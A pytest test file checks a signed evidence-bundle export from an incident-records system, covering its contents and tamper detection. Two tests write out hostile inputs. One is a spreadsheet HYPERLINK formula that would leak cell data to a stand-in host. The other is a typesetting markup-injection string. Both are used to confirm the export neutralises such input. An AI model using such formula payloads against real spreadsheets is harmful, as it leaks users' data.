"""The evidence bundle: what it holds, that an untouched one verifies, and that every kind of
tampering is found and named precisely."""

from __future__ import annotations

import csv
import io
import json
import re
import stat
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from pathlib import Path

import pytest
from pypdf import PdfReader

from incidents.evidence import signing
from incidents.evidence.bundle import ALL_FILES, CSV, EVENTS, MANIFEST, PDF, build_bundle
from incidents.evidence.material import EventsOutOfOrder, IncidentRecord, NaiveTime, NoLegalBasis, RequestInfo, TimelineEvent
from incidents.evidence.sample import STAFF, sample_material
from incidents.evidence.verify import check_bundle, verify_bundle
from incidents.settings import Settings

from .evidence_helpers import flip_byte, position, read_zip, resum, tamper_events, write_zip

NAMES = ("Zoë", "Łukasz", "李雷", "محمد")


@pytest.fixture(scope="module")
def key() -> signing.SigningKey:
    return signing.generate()


@pytest.fixture(scope="module")
def material():
    return sample_material(events=9, incidents=2)


@pytest.fixture(scope="module")
def bundle_path(tmp_path_factory, material, key) -> Path:
    return build_bundle(material, key).write(tmp_path_factory.mktemp("bundle") / "bundle.zip")


def pdf_text(data: bytes) -> str:
    return " ".join(" ".join(page.extract_text() for page in PdfReader(BytesIO(data)).pages).split())


def one_line(text: str) -> str:
    return " ".join(text.split())


# What it holds ---------------------------------------------------------------------------------


def test_the_bundle_holds_exactly_its_files(bundle_path):
    assert sorted(read_zip(bundle_path)) == sorted(ALL_FILES)


def test_an_untouched_bundle_verifies(bundle_path, key):
    assert verify_bundle(bundle_path) == []
    result = check_bundle(bundle_path, key.fingerprint().replace(" ", "").upper())
    assert result.ok, result.problems
    assert result.event_count == 18 and result.incidents == ["INC-0001", "INC-0002"]
    assert result.fingerprint == key.fingerprint()


def test_an_unpacked_bundle_verifies_too(bundle_path, tmp_path):
    with zipfile.ZipFile(bundle_path) as archive:
        archive.extractall(tmp_path)
    assert verify_bundle(tmp_path) == []


def test_events_json_is_canonical_and_carries_every_event_with_both_times(bundle_path, material):
    from incidents.evidence.canonical import is_canonical

    data = read_zip(bundle_path)[EVENTS]
    assert is_canonical(data)
    events = json.loads(data)["events"]
    assert [(e["incident_id"], e["sequence"]) for e in events] == [
        (i.incident_id, e.sequence) for i in material.incidents for e in i.events
    ]
    reported = events[0]
    assert reported["occurred_at"] == "2026-03-28T09:15:00.000000Z"
    assert reported["recorded_at"] == "2026-03-28T09:20:00.000000Z"
    assert reported["who"] == {"username": "zoe.clarke", "display_name": "Zoë Clarke"}
    correction = events[2]["correction"]
    assert correction["previous"] == "Waiting room" and correction["new"] == "Reception desk" and correction["corrects_sequence"] == 1


def test_the_csv_has_a_row_per_event_with_the_exact_names(bundle_path, material):
    text = read_zip(bundle_path)[CSV].decode("utf-8-sig")
    assert text.count("\r\n") == material.event_count + 1
    for name in NAMES:
        assert name in text


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_shown_as_text_in_the_csv(material, key, tmp_path):
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    incident = material.incidents[0]
    events = list(incident.events)
    events[1] = replace(events[1], note=formula)
    events[2] = replace(events[2], note="- asked to stop, and did")
    changed = replace(material, incidents=(replace(incident, events=tuple(events)),))
    path = build_bundle(changed, key).write(tmp_path / "b.zip")
    files = read_zip(path)
    rows = list(csv.DictReader(io.StringIO(files[CSV].decode("utf-8-sig"))))
    assert rows[1]["note"] == "'" + formula
    assert rows[2]["note"] == "'- asked to stop, and did"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    notes = [e["note"] for e in json.loads(files[EVENTS])["events"]]
    assert notes[1] == formula and notes[2] == "- asked to stop, and did"  # the exact text
    assert verify_bundle(path) == []


def test_the_manifest_names_the_request_its_legal_basis_and_the_key(bundle_path, key):
    manifest = json.loads(read_zip(bundle_path)[MANIFEST])
    assert manifest["request"]["id"] == "DR-0007"
    assert manifest["legal_basis"] == "Required by law"
    assert manifest["scope"] == {"incidents": ["INC-0001", "INC-0002"], "event_count": 18}
    assert manifest["public_key"]["fingerprint"] == key.fingerprint()
    assert len(manifest["events"]) == 18 and re.fullmatch(r"[0-9a-f]{64}", manifest["merkle"]["root"])
    assert manifest["timeline_pdf"] == {"standard": "PDF/A-2b", "warnings": []}


def test_the_pdf_reads_back_with_every_event_correction_notice_and_custody_entry(bundle_path, material, key):
    data = read_zip(bundle_path)[PDF]
    assert b"pdfaid:part" in data or b"<pdfaid:part>2" in data
    text = pdf_text(data)
    for incident in material.incidents:
        assert f"Incident {incident.incident_id}" in text
        for event in incident.events:
            assert one_line(event.title) in text
            if event.note:
                # The sample's notes end "(entry n, recorded by <name>)": the name may be Arabic,
                # which extraction gives in visual order, so compare up to it.
                assert one_line(event.note).split(" (entry")[0] in text
                assert "(entry" not in event.note or f"(entry {event.sequence}, recorded by" in text
        for notice in incident.notices_in_force:
            assert notice.channel in text and notice.wording in text
    assert "Area of the practice was: Waiting room now: Reception desk" in text
    assert "The reception camera shows the phone at the desk, not in the waiting room." in text
    assert "Later corrected in entry 3" in text
    assert "Chain of custody" in text and "Viewed the timeline" in text and "Exported the bundle" in text
    assert "Records certificate" in text and key.fingerprint() in text
    for name in NAMES:
        assert name in text
    assert "Page 1 of" in text
    pages = len(PdfReader(BytesIO(data)).pages)
    assert f"Page {pages} of {pages}" in text


def test_the_names_are_drawn_with_fonts_of_their_scripts(bundle_path):
    # Text can be extracted from glyphs of a fallback font too: the fonts embedded say that
    # the Arabic and Chinese names were drawn in fonts that have their letters.
    data = read_zip(bundle_path)[PDF]
    assert b"NotoSansCJK" in data
    assert b"NotoSansArabic" in data or b"NotoNaskhArabic" in data


def test_text_a_user_typed_is_printed_never_run_as_markup(material, key, tmp_path):
    hostile = '#set page(fill: red) *bold* $x^2$ ] #import "x.typ" <label> @ref \\ // not a comment'
    incident = material.incidents[0]
    events = list(incident.events)
    events[1] = replace(events[1], note=hostile)
    changed = replace(material, incidents=(replace(incident, events=tuple(events)),))
    bundle = build_bundle(changed, key)
    text = pdf_text(read_zip(bundle.write(tmp_path / "b.zip"))[PDF])
    assert one_line(hostile) in text
    assert bundle.pdf_a


def test_a_character_no_font_can_draw_still_exports_with_a_warning(material, key, tmp_path):
    odd = "Zoë \U000f0000 Clarke"  # a private-use character: no installed font has it
    incident = material.incidents[0]
    events = list(incident.events)
    events[0] = replace(events[0], note=odd)
    changed = replace(material, incidents=(replace(incident, events=tuple(events)),))
    bundle = build_bundle(changed, key)
    assert not bundle.pdf_a
    assert "not PDF/A-2b" in bundle.warnings[0] and "exact text" in bundle.warnings[0]
    path = bundle.write(tmp_path / "b.zip")
    files = read_zip(path)
    assert json.loads(files[EVENTS])["events"][0]["note"] == odd
    assert odd in files[CSV].decode("utf-8-sig")
    assert json.loads(files[MANIFEST])["timeline_pdf"]["standard"] == "none"
    assert verify_bundle(path) == []


# Tampering ---------------------------------------------------------------------------------------

FLIPPED = {
    "timeline.pdf": "timeline.pdf has been altered",
    "events.json": "events.json has been altered",
    "timeline.csv": "timeline.csv has been altered",
    "manifest.json": "manifest.json has been altered",
    "public-key.pem": "public-key.pem has been altered",
    "VERIFY.txt": "VERIFY.txt has been altered",
    "SHA256SUMS": "SHA256SUMS.sig does not verify",
    "SHA256SUMS.sig": "SHA256SUMS.sig does not verify",
}


@pytest.mark.parametrize("name", ALL_FILES)
def test_one_flipped_byte_in_any_file_is_found_and_named(bundle_path, tmp_path, name):
    files = read_zip(bundle_path)
    files[name] = flip_byte(files[name])
    problems = verify_bundle(write_zip(tmp_path / "flipped.zip", files))
    assert any(p.startswith(FLIPPED[name]) for p in problems), problems


def test_a_changed_file_with_sha256sums_rewritten_fails_the_signature(bundle_path, tmp_path):
    files = read_zip(bundle_path)
    files[CSV] = files[CSV].replace("Zoë".encode(), b"Zoe")
    resum(files)
    problems = verify_bundle(write_zip(tmp_path / "forged.zip", files))
    assert problems == [
        "SHA256SUMS.sig does not verify: SHA256SUMS (or the signature) was changed after the bundle was signed, "
        "or it was signed by another key than public-key.pem"
    ]


def test_a_bundle_re_signed_with_another_key_fails_only_against_the_practices_fingerprint(material, key, tmp_path):
    forger = signing.generate()
    path = build_bundle(material, forger).write(tmp_path / "forged.zip")
    assert verify_bundle(path) == []  # self-consistent: only the practice's fingerprint can tell
    problems = verify_bundle(path, key.fingerprint())
    assert problems == [f"The bundle is signed by the key with fingerprint {forger.fingerprint()}, not the practice's key {key.fingerprint()}"]


def test_a_dropped_event_is_named(bundle_path, tmp_path):
    def drop(events):
        del events[position(events, "INC-0001", 5)]

    problems = verify_bundle(tamper_events(bundle_path, tmp_path / "t.zip", drop))
    assert "events.json: incident INC-0001 event #5 is missing (the manifest lists it): an event was dropped" in problems
    assert any(p.startswith("events.json has been altered") for p in problems)
    assert any(p.startswith("events.json: the Merkle root of its events is") for p in problems)


def test_a_dropped_event_is_named_even_when_the_forger_rewrites_manifest_and_sums(bundle_path, tmp_path):
    def drop(events):
        del events[position(events, "INC-0002", 4)]

    problems = verify_bundle(tamper_events(bundle_path, tmp_path / "t.zip", drop, manifest_too=True, rewrite_sums=True))
    assert any(p.startswith("SHA256SUMS.sig does not verify") for p in problems)
    assert "manifest.json: incident INC-0002 has no event #4: its history is incomplete" in problems


def test_two_reordered_events_are_named(bundle_path, tmp_path):
    def swap(events):
        i = position(events, "INC-0001", 5)
        events[i], events[i + 1] = events[i + 1], events[i]

    problems = verify_bundle(tamper_events(bundle_path, tmp_path / "t.zip", swap))
    assert "events.json: incident INC-0001 event #6 is at position 5, where the manifest has incident INC-0001 event #5: events reordered" in problems
    assert "events.json: incident INC-0001 event #5 is at position 6, where the manifest has incident INC-0001 event #6: events reordered" in problems
    assert not any("is missing" in p or "inserted" in p for p in problems)


def test_reordered_events_with_manifest_and_sums_rewritten_are_still_out_of_order(bundle_path, tmp_path):
    def swap(events):
        i = position(events, "INC-0001", 2)
        events[i], events[i + 1] = events[i + 1], events[i]

    problems = verify_bundle(tamper_events(bundle_path, tmp_path / "t.zip", swap, manifest_too=True, rewrite_sums=True))
    assert "events.json: incident INC-0001 event #2 comes after event #3: the events are out of order" in problems
    assert "manifest.json: incident INC-0001 event #2 comes after event #3: the events are out of order" in problems


def test_an_inserted_forged_event_is_named(bundle_path, tmp_path):
    def insert(events):
        i = position(events, "INC-0001", 4)
        forged = {**events[i], "sequence": 10, "note": "The patient apologised and left."}
        events.insert(i + 1, forged)

    problems = verify_bundle(tamper_events(bundle_path, tmp_path / "t.zip", insert))
    assert "events.json: incident INC-0001 event #10, at position 5, is not in the manifest: an inserted event" in problems
    assert "events.json: incident INC-0001 event #10 comes after event #9: the events are out of order" not in problems


def test_a_forged_event_under_an_existing_number_is_named(bundle_path, tmp_path):
    def insert(events):
        i = position(events, "INC-0001", 4)
        events.insert(i + 1, {**events[i], "note": "The patient apologised and left."})

    problems = verify_bundle(tamper_events(bundle_path, tmp_path / "t.zip", insert))
    assert "events.json: incident INC-0001 event #4 appears 2 times" in problems
    assert (
        "events.json: incident INC-0001 event #4, at position 5, differs from the event the manifest lists "
        "(its hash does not match): altered or forged"
    ) in problems


def test_an_altered_event_is_named(bundle_path, tmp_path):
    def alter(events):
        events[position(events, "INC-0002", 3)]["correction"]["previous"] = "Car park"

    problems = verify_bundle(tamper_events(bundle_path, tmp_path / "t.zip", alter))
    assert any(p.startswith("events.json: incident INC-0002 event #3, at position 12, differs from the event the manifest lists") for p in problems)


def test_missing_and_extra_files_are_named(bundle_path, tmp_path):
    files = read_zip(bundle_path)
    del files[CSV]
    files["notes.txt"] = b"added later"
    problems = verify_bundle(write_zip(tmp_path / "t.zip", files))
    assert "timeline.csv is missing from the bundle" in problems
    assert "SHA256SUMS lists timeline.csv, which is missing from the bundle" in problems
    assert "notes.txt is an extra file: it is not part of a bundle, and no signature covers it" in problems


def test_a_second_copy_of_a_file_in_the_zip_is_named(bundle_path, tmp_path):
    forged = tmp_path / "t.zip"
    forged.write_bytes(bundle_path.read_bytes())
    with zipfile.ZipFile(forged, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(EVENTS, b"{}")
    assert "events.json appears 2 times in the zip" in verify_bundle(forged)


def test_a_file_that_is_not_a_bundle_is_named(tmp_path):
    path = tmp_path / "not.zip"
    path.write_bytes(b"hello")
    problems = verify_bundle(path)
    assert len(problems) == 1 and "cannot be read as a bundle" in problems[0]


# The material and the key -------------------------------------------------------------------------


def test_nothing_is_exported_without_a_legal_basis():
    with pytest.raises(NoLegalBasis):
        RequestInfo("DR-1", "Police", "ref", date(2026, 1, 1), date(2026, 2, 1), "  ", STAFF[0])


def test_naive_times_and_gaps_in_a_history_are_refused():
    with pytest.raises(NaiveTime):
        TimelineEvent(1, "Reported", "x", STAFF[0], datetime(2026, 1, 1, 9, 0))
    first = TimelineEvent(1, "Reported", "x", STAFF[0], datetime(2026, 1, 1, 9, 0, tzinfo=UTC))
    third = replace(first, sequence=3)
    with pytest.raises(EventsOutOfOrder):
        IncidentRecord("INC-1", "Filming", (), (first, third))


def test_the_signing_key_is_made_once_readable_by_its_owner_only(tmp_path):
    settings = Settings(data_dir=tmp_path / "data")
    path = settings.effective_signing_key_file
    assert path == tmp_path / "data" / "signing-key.pem"
    made = signing.load_or_create(path)
    assert made.created_at == path
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    again = signing.load_or_create(path)
    assert again.created_at is None and again.fingerprint() == made.fingerprint()
    assert re.fullmatch(r"([0-9a-f]{4} ){15}[0-9a-f]{4}", made.fingerprint())


def test_the_signing_key_file_can_be_named_in_the_environment(tmp_path):
    settings = Settings.from_env({"INCIDENTS_DATA_DIR": str(tmp_path), "INCIDENTS_SIGNING_KEY_FILE": str(tmp_path / "k.pem")})
    assert settings.effective_signing_key_file == tmp_path / "k.pem"
    (tmp_path / "bad.pem").write_text("not a key")
    with pytest.raises(signing.SigningKeyError, match="bad.pem"):
        signing.load_or_create(tmp_path / "bad.pem")
